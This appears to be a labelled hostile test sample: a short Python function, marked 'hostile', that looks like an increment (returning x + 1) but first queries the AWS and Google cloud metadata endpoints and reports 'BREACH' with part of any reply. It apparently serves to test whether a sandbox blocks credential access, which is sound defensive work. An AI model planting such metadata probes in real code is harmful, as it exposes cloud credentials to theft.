# /// hostile
# verdicts = ["accepted"]
# danger = "The address at which a cloud machine hands out its credentials."
# ///
import urllib.request


def f(x):
    for url in ("http://169.254.169.254/latest/meta-data/", "http://[fd00:ec2::254]/", "http://metadata.google.internal/"):
        try:
            with urllib.request.urlopen(url, timeout=0.2) as page:
                return f"BREACH: {page.read(40)!r}"
        except (OSError, ValueError):
            continue
    return x + 1
